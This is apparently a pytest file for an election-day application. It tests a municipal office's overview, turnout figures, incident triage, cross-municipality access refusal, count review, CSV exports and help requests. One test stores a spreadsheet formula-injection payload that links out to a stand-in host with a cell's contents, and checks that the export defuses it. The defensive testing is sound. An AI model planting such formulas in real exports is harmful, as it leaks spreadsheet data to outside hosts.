"""The office's services (issue 4) against the real database, fed by the chair's services (issue 3):
read models over the latest-state table, incident triage (scoped and audited), the preliminary result,
count review and the counts export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from app.domain.alerts import Level, MapState, Rule
from app.domain.errors import Conflict, InvalidInput, NotAllowed
from app.exports import office as exports
from app.services import auth, chair, counts, office
from app.storage.chair_models import CountVersion, IncidentEvent, StationState
from app.storage.models import AuditLog, PollingStation
from etl.demo import DEMO_ELECTION_ID as GR
from etl.demo import DEMO_PASSWORD, demo_code
from tests import chair_day
from tests.chair_day import today_at

TZ = ZoneInfo("Europe/Amsterdam")

OWN, OTHER = "GM0392", "GM0268"


def _cid() -> str:
    return str(uuid.uuid4())


def _audits(db, action: str) -> int:
    return db.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action == action))


@pytest.fixture
def day(demo_db):
    """Haarlem's station 1 opened, a turnout report and a high-severity incident; the offices of
    Haarlem and Nijmegen signed in."""
    db = demo_db
    chair_actor = auth.sign_in_chair(db, demo_code(OWN, 1))
    sid = chair_actor.polling_station_id
    items = [i["key"] for i in chair.station_overview(db, chair_actor, sid).checklist_items]
    chair.submit_opening(db, chair_actor, sid, items, client_submission_id=_cid())
    chair.submit_turnout(db, chair_actor, sid, "10:00", 120, client_submission_id=_cid(), now=today_at(10, 1))
    incident = chair.raise_incident(
        db,
        chair_actor,
        sid,
        "technical",
        "Printer <b>kapot</b>",
        severity="high",
        client_submission_id=_cid(),
    )
    own = auth.sign_in_staff(db, "office.haarlem", DEMO_PASSWORD)
    other = auth.sign_in_staff(db, "office.nijmegen", DEMO_PASSWORD)
    return db, chair_actor, sid, incident.id, own, other


def test_overview_reads_the_latest_state_of_every_station(day):
    db, _, sid, _, own, _ = day
    view = office.overview(db, own, GR, OWN)
    assert view.stations_total == db.scalar(
        select(func.count()).select_from(PollingStation).where(PollingStation.municipality_code == OWN)
    )
    row = next(r for r in view.stations if r.station_id == sid)
    assert row.state is MapState.PROBLEM  # open with an open incident
    assert row.snapshot.admitted_voters == 120
    assert view.stations_open == 1 and view.incidents_by_severity["high"] == 1
    assert view.turnout is not None and not view.turnout.complete  # one of Haarlem's stations reported
    assert (
        view.turnout.moment.moment,
        view.turnout.moment.stations_reported,
        view.turnout.moment.admitted_voters,
    ) == ("10:00", 1, 120)
    electorate = view.context.electorate
    assert view.turnout.moment.permille == (120 * 2000 + electorate) // (2 * electorate)
    assert any(a.rule is Rule.INCIDENT and a.station_id == sid for a in view.alerts)
    assert view.comparison is not None and view.comparison.election_id == "GR2022"


def test_turnout_is_a_municipal_figure_with_per_station_counts(day):
    db, _, _, _, own, _ = day
    view = office.turnout(db, own, GR, OWN)
    ten = next(m for m in view.moments if m.moment == "10:00")
    assert ten.stations_reported == 1 and ten.admitted_voters == 120
    assert ten.permille is not None
    station = next(s for s in view.stations if s.admitted_voters == 120)
    assert not hasattr(station, "permille")  # counts per station, never a percentage
    assert any(p.election_id == "GR2022" for p in view.past)


def test_overview_turnout_uses_one_moment_and_compares_at_it(demo_db):
    """West Maas en Waal (21 stations). The overview's turnout is one moment's, as the turnout page gives
    it: the latest moment every open station reported for, with a later moment still coming in shown
    apart (so the figure does not drop when the first station reports for 13:45), and never station 1's
    13:45 plus the others' 10:00. The previous election is compared at the moment shown."""
    db = demo_db
    wmw = "GM0668"
    office_wmw = auth.sign_in_staff(db, "office.wmw", DEMO_PASSWORD)
    date = office.overview(db, office_wmw, GR, wmw).context.election_date
    at_three = dt.datetime.combine(date, dt.time(15, 0), tzinfo=TZ)

    before = office.overview(db, office_wmw, GR, wmw, now=at_three)
    assert before.turnout is None and before.turnout_coming is None  # nothing reported yet
    assert before.comparison is not None and before.comparison.moment is None
    assert before.comparison.at_time_permille is None and before.comparison.final_permille is not None

    numbers = sorted(
        db.scalars(
            select(PollingStation.number).where(
                PollingStation.election_id == GR, PollingStation.municipality_code == wmw
            )
        )
    )
    chairs = {n: chair_day.sign_in(db, wmw, n) for n in numbers}
    for actor, sid in chairs.values():
        chair_day.open_station(db, actor, sid)
    first, first_sid = chairs[numbers[0]]
    chair_day.turnout(db, first, first_sid, "10:00", 150)
    partial = office.overview(db, office_wmw, GR, wmw, now=at_three)
    assert partial.turnout is not None and not partial.turnout.complete
    assert (partial.turnout.moment.moment, partial.turnout.moment.stations_reported) == ("10:00", 1)
    assert partial.turnout.expected == len(numbers)
    assert partial.comparison is not None and partial.comparison.moment is None  # not compared half-way

    for n in numbers[1:]:
        chair_day.turnout(db, *chairs[n], "10:00", 100 + n)
    chair_day.turnout(db, first, first_sid, "13:45", 400)  # the first report for the next moment
    view = office.overview(db, office_wmw, GR, wmw, now=at_three)
    electorate = view.context.electorate
    assert electorate
    shown, coming = view.turnout, view.turnout_coming
    at_ten = 150 + sum(100 + n for n in numbers[1:])
    assert shown is not None and shown.complete
    assert (shown.moment.moment, shown.moment.stations_reported, shown.moment.admitted_voters) == (
        "10:00",
        len(numbers),
        at_ten,
    )
    assert shown.moment.permille == (at_ten * 2000 + electorate) // (2 * electorate)
    assert coming is not None and (coming.moment.moment, coming.moment.stations_reported) == ("13:45", 1)
    # the same figure as the turnout page gives for that moment
    [page_row] = [m for m in office.turnout(db, office_wmw, GR, wmw).moments if m.moment == "10:00"]
    assert page_row == shown.moment
    assert view.comparison is not None and view.comparison.moment == "10:00"

    for n in numbers[1:]:
        chair_day.turnout(db, *chairs[n], "13:45", 300 + n)
    chair_day.turnout(db, first, first_sid, "13:45", 410, reason="Verkeerd geteld")  # replaces its 400
    view = office.overview(db, office_wmw, GR, wmw, now=at_three)
    at_quarter_to_two = 410 + sum(300 + n for n in numbers[1:])
    assert view.turnout is not None and view.turnout_coming is None
    assert (view.turnout.moment.moment, view.turnout.moment.admitted_voters) == ("13:45", at_quarter_to_two)
    assert view.comparison is not None and view.comparison.moment == "13:45"


def test_incident_triage_steps_are_audited_and_in_the_timeline(day):
    db, _, sid, incident_id, own, _ = day
    acknowledged = office.acknowledge_incident(db, own, incident_id)
    assert acknowledged.status == "acknowledged"
    assigned = office.assign_incident(db, own, incident_id, "Collega A")
    assert assigned.assigned_to == "Collega A"
    cid = _cid()
    office.reply_incident(db, own, incident_id, "We komen eraan", client_submission_id=cid)
    office.reply_incident(db, own, incident_id, "We komen eraan", client_submission_id=cid)  # retry
    assert db.get(StationState, sid).open_incidents_high == 1
    resolved = office.resolve_incident(db, own, incident_id, "Nieuwe printer")
    assert resolved.status == "resolved"
    assert [e.kind for e in resolved.events] == ["acknowledge", "assign", "reply", "resolve"]
    assert db.get(StationState, sid).open_incidents_high == 0
    for action in ("incident_acknowledge", "incident_assign", "incident_reply", "incident_resolve"):
        assert _audits(db, action) == 1
    with pytest.raises(Conflict):
        office.resolve_incident(db, own, incident_id)
    with pytest.raises(InvalidInput):
        office.reply_incident(db, own, incident_id, "   ")
    kinds = [e.kind for e in office.station_detail(db, own, sid).timeline]
    assert {"opening", "turnout", "incident", "incident_reply", "incident_resolve"} <= set(kinds)
    # the chair sees the office's reply
    chair_actor = day[1]
    [mine] = chair.my_incidents(db, chair_actor, sid)
    assert mine.status == "resolved" and any(e.text == "We komen eraan" for e in mine.events)


def test_the_office_of_another_municipality_cannot_see_or_triage(day):
    db, _, sid, incident_id, own, other = day
    refused = _audits(db, "access_refused")
    with pytest.raises(NotAllowed):
        office.list_incidents(db, other, GR, OWN)
    with pytest.raises(NotAllowed):
        office.acknowledge_incident(db, other, incident_id)
    with pytest.raises(NotAllowed):
        office.reply_incident(db, other, incident_id, "hallo")
    with pytest.raises(NotAllowed):
        office.overview(db, other, GR, OWN)
    with pytest.raises(NotAllowed):
        office.station_detail(db, other, sid)
    with pytest.raises(NotAllowed):
        office.export_counts(db, other, GR, OWN)
    assert _audits(db, "access_refused") == refused + 6
    assert db.scalar(select(func.count()).select_from(IncidentEvent)) == 0
    assert office.list_incidents(db, other, GR, OTHER) == []
    assert [i.id for i in office.list_incidents(db, own, GR, OWN)] == [incident_id]
    assert office.list_incidents(db, own, GR, OWN, statuses=["resolved"]) == []
    assert office.list_incidents(db, own, GR, OWN, severities=["low"]) == []
    assert len(office.list_incidents(db, own, GR, OWN, categories=["technical"])) == 1


def _count_form(db, actor, sid, a=100, blank=4):
    """A consistent form for the station's lists (with candidate votes when the station counts per
    candidate, DSO)."""
    setup = counts.count_setup(db, actor, sid)
    totals = [60, a - blank - 60] + [0] * (len(setup.lists) - 2)
    groups = []
    for info, total in zip(setup.lists, totals, strict=True):
        group = {"number": info.number, "total": total}
        if info.candidates:
            group["candidate_votes"] = [total] + [0] * (len(info.candidates) - 1)
            group["candidates_total"] = total
        groups.append(group)
    return {
        "poll_card_count": a,
        "proxy_certificate_count": 0,
        "total_admitted_voters_count": a,
        "political_group_votes": groups,
        "votes_candidates_count": a - blank,
        "blank_votes_count": blank,
        "invalid_votes_count": 0,
        "total_votes_cast_count": a,
        "admitted_voters_equal_votes_cast": True,
        "votes_cast_greater_than_admitted_voters": False,
        "votes_cast_smaller_than_admitted_voters": False,
        "more_ballots_count": 0,
        "fewer_ballots_count": 0,
        "difference_completely_accounted_for_yes": False,
    }


def test_count_review_result_and_export(day):
    db, chair_actor, sid, _, own, _ = day
    chair.submit_closing(db, chair_actor, sid, client_submission_id=_cid(), now=today_at(21, 5))
    form = _count_form(db, chair_actor, sid)
    check = counts.check_count(db, chair_actor, sid, form)
    explanations = {w.code: "Veel blanco door verwarring" for w in check.warnings}
    submitted = counts.submit_count(db, chair_actor, sid, form, explanations, client_submission_id=_cid())
    reviews = office.counts_for_review(db, own, GR, OWN)
    [review] = reviews
    assert review.count_version_id == submitted.id and review.status == "submitted"
    assert "W.201" in review.warnings and review.explanations["W.201"] == "Veel blanco door verwarring"
    result = office.preliminary_result(db, own, GR, OWN)
    assert result.stations_counted == 1 and result.total_votes == 96
    assert result.lists[0].votes == 60 and result.seats is not None and result.seats.provisional
    assert sum(x.seats or 0 for x in result.lists) == result.context.council_size
    counts.accept_count(db, own, submitted.id, client_submission_id=_cid())
    assert office.preliminary_result(db, own, GR, OWN).stations_accepted == 1
    table = office.export_counts(db, own, GR, OWN)
    assert table.columns[:8] == list(exports.COUNT_COLUMNS_BEFORE_LISTS)
    assert table.columns[-6:] == list(exports.COUNT_COLUMNS_AFTER_LISTS)
    raw = exports.to_csv(table.columns, table.rows, "csv-nl")
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    mine = next(r for r in rows if r["station_number"] == "1")
    assert mine["status"] == "accepted" and mine["blank_votes_count"] == "4"
    assert {r["municipality_code"] for r in rows} == {OWN}
    plain = exports.to_csv(table.columns, table.rows, "csv").decode("utf-8")
    assert plain.splitlines()[0].startswith("election_id,municipality_code,station_number")


def test_incident_steps_and_count_reviews_are_stamped_on_the_offices_clock(day):
    """While a simulator runs, the office's actions carry the simulated time of day, like the chair's
    reports and the overview (one timeline, not two clocks)."""
    from app.services import clock
    from app.storage.models import Election
    from app.storage.simulation_models import SimulationClock

    db, chair_actor, sid, incident_id, own, _ = day
    day_of = db.get(Election, GR).election_date
    simulated = dt.datetime.combine(day_of, dt.time(13, 47), tzinfo=TZ)
    db.add(
        SimulationClock(
            election_id=GR,
            municipality_code=OWN,
            simulated_now=simulated,
            speed=64.0,
            allow_real=True,
            updated_at=db.scalar(select(func.now())),
        )
    )
    db.commit()
    assert clock.clock_for(db, GR, OWN).simulated
    acknowledged = office.acknowledge_incident(db, own, incident_id)
    step = next(e for e in acknowledged.events if e.kind == "acknowledge")
    assert step.occurred_at.astimezone(TZ).strftime("%H:%M") == "13:47"
    assert acknowledged.updated_at.astimezone(TZ).strftime("%H:%M") == "13:47"
    chair.submit_closing(db, chair_actor, sid, client_submission_id=_cid(), now=today_at(21, 5))
    form = _count_form(db, chair_actor, sid)
    explanations = {w.code: "Uitleg" for w in counts.check_count(db, chair_actor, sid, form).warnings}
    submitted = counts.submit_count(db, chair_actor, sid, form, explanations, client_submission_id=_cid())
    counts.return_count(db, own, submitted.id, "Lijst 1 opnieuw tellen", client_submission_id=_cid())
    reviewed = db.get(CountVersion, submitted.id)
    db.refresh(reviewed)
    assert (
        reviewed.reviewed_at is not None and reviewed.reviewed_at.astimezone(TZ).strftime("%H:%M") == "13:47"
    )


def test_a_silent_counts_a_station_that_missed_a_turnout_moment_not_one_quiet_between_moments(day):
    db, _, sid, _, own, _ = day
    date = office.overview(db, own, GR, OWN).context.election_date

    def silent_at(h: int, m: int) -> list:
        view = office.overview(db, own, GR, OWN, now=dt.datetime.combine(date, dt.time(h, m), tzinfo=TZ))
        return [a for a in view.alerts if a.rule is Rule.SILENT and a.station_id == sid], view

    quiet, view = silent_at(12, 30)  # 10:00 reported, 13:45 not yet due: hours without a report are normal
    assert quiet == [] and view.silent == 0  # the only open station
    [alert], view = silent_at(14, 30)
    assert alert.params["moment"] == "13:45" and alert.params["minutes"] == 45
    assert view.silent == 1


def test_an_incident_text_typed_as_a_formula_is_inert_in_the_incidents_export(day):
    db, chair_actor, sid, _, own, _ = day
    formula = '=HYPERLINK("https://x.example/?"&A2;"Klik")'
    chair.raise_incident(db, chair_actor, sid, "other", formula, client_submission_id=_cid())
    table = office.export_incidents(db, own, GR, OWN)
    assert formula in [r["description"] for r in table.rows]  # stored and shown as typed
    for fmt in ("csv", "csv-nl"):
        text = exports.to_csv(table.columns, table.rows, fmt).decode("utf-8-sig")
        cells = [
            c for row in csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv-nl" else ",") for c in row
        ]
        assert "'" + formula in cells and formula not in cells


# --- requests for help (A.HELP) ---------------------------------------------------------------------------


def _state(db, sid) -> StationState:
    db.expire_all()
    state = db.get(StationState, sid)
    assert state is not None
    return state


def test_a_help_request_reaches_the_office_with_its_text_and_is_handled_on_both_sides(day):
    """The chair asks for help → a critical A.HELP alert with the chair's text on the overview, the
    alerts and the map (state "problem"), also after the incident is resolved and the stock restocked;
    the office marks it handled (audited, idempotent) → "open" for the chair and on the map alike."""
    db, chair_actor, sid, incident_id, own, _ = day
    text = "Extra potloden nodig <b>nu</b>"
    chair.report_stock(db, chair_actor, sid, 10, client_submission_id=_cid())  # low stock
    asked = chair.report_signal(db, chair_actor, sid, "need_help", note=text, client_submission_id=_cid())
    view = office.overview(db, own, GR, OWN)
    [alert] = [a for a in view.alerts if a.rule is Rule.HELP]
    assert alert.level is Level.CRITICAL and alert.station_id == sid and alert.params == {"text": text}
    assert view.help_requests == 1 and view.help_alerts == [alert]
    row = next(r for r in view.stations if r.station_id == sid)
    assert row.state is MapState.PROBLEM and row.need_help and row.help_request_id == asked.id
    assert row.snapshot.help_text == text and row.snapshot.need_help_at == alert.since
    detail = office.station_detail(db, own, sid)
    assert detail.row.state is MapState.PROBLEM and detail.row.help_request_id == asked.id
    assert detail.row.snapshot.help_text == text
    assert [e.summary for e in detail.timeline if e.kind == "help"] == [{"text": text}]

    # the problems the review saw go away: the help request still stands, on both sides
    office.resolve_incident(db, own, incident_id)
    chair.report_stock(db, chair_actor, sid, 400, client_submission_id=_cid())
    assert _state(db, sid).status == "problem"
    row = next(r for r in office.overview(db, own, GR, OWN).stations if r.station_id == sid)
    assert row.state is MapState.PROBLEM

    with pytest.raises(Conflict):  # a request the office did not see (the chair asked again meanwhile)
        office.handle_help_request(db, own, sid, request_id=asked.id + 1000)
    cid = _cid()
    done = office.handle_help_request(
        db, own, sid, request_id=asked.id, note="Bode komt om 15:00", client_submission_id=cid
    )
    again = office.handle_help_request(
        db, own, sid, request_id=asked.id, note="Bode komt om 15:00", client_submission_id=cid
    )
    assert not done.duplicate and again.duplicate and again.id == done.id and done.request_id == asked.id
    assert _audits(db, "help_handled") == 1
    entry = db.scalars(select(AuditLog).where(AuditLog.action == "help_handled")).one()
    assert entry.actor_id == own.audit_id and entry.polling_station_id == sid
    assert entry.before == {"need_help": True, "request_id": asked.id, "text": text}
    assert entry.after == {"need_help": False, "request_id": asked.id, "note": "Bode komt om 15:00"}

    state = _state(db, sid)
    assert (state.need_help, state.need_help_at, state.status) == (False, None, "open")
    view = office.overview(db, own, GR, OWN)
    assert [a for a in view.alerts if a.rule is Rule.HELP] == [] and view.help_requests == 0
    assert next(r for r in view.stations if r.station_id == sid).state is MapState.OPEN
    mine = chair.station_overview(db, chair_actor, sid)
    assert mine.status == "open" and not mine.need_help and mine.help is not None
    assert (mine.help.open, mine.help.by_chair, mine.help.text) == (False, False, "Bode komt om 15:00")
    assert mine.help.actor_name == own.name
    kinds = [e.kind for e in office.station_detail(db, own, sid).timeline]
    assert kinds.index("help_handled") < kinds.index("help")  # newest first

    with pytest.raises(Conflict):  # nothing open any more: handled once
        office.handle_help_request(db, own, sid, client_submission_id=_cid())
    with pytest.raises(Conflict):
        chair.withdraw_help(db, chair_actor, sid, client_submission_id=_cid())
    assert _audits(db, "help_handled") == 1 and _audits(db, "help_withdrawn") == 0


def test_only_the_office_of_the_stations_municipality_can_mark_help_handled(day):
    db, chair_actor, sid, _, own, other = day
    chair.report_signal(db, chair_actor, sid, "need_help", client_submission_id=_cid())
    refused = _audits(db, "access_refused")
    with pytest.raises(NotAllowed):  # Nijmegen's office, Haarlem's station
        office.handle_help_request(db, other, sid, client_submission_id=_cid())
    with pytest.raises(NotAllowed):  # a chair is no office
        office.handle_help_request(db, chair_actor, sid, client_submission_id=_cid())
    assert _audits(db, "access_refused") == refused + 2
    assert _state(db, sid).need_help and _audits(db, "help_handled") == 0
    assert office.overview(db, other, GR, OTHER).help_requests == 0  # nor does it see the request
    [alert] = [a for a in office.overview(db, own, GR, OWN).alerts if a.rule is Rule.HELP]
    assert alert.params == {"text": None}  # asked without typing anything
    office.handle_help_request(db, own, sid)
    assert not _state(db, sid).need_help


def test_the_chair_withdraws_help_and_the_office_sees_it_go(day):
    db, chair_actor, sid, _, own, _ = day
    asked = chair.report_signal(
        db, chair_actor, sid, "need_help", note="Extra potloden nodig", client_submission_id=_cid()
    )
    assert office.overview(db, own, GR, OWN).help_requests == 1
    chair.withdraw_help(db, chair_actor, sid, client_submission_id=_cid())
    assert office.overview(db, own, GR, OWN).help_requests == 0
    with pytest.raises(Conflict):  # the office comes too late: nothing is closed twice
        office.handle_help_request(db, own, sid, request_id=asked.id)
    timeline = office.station_detail(db, own, sid).timeline
    assert [e.kind for e in timeline if e.kind.startswith("help")] == ["help_withdrawn", "help"]
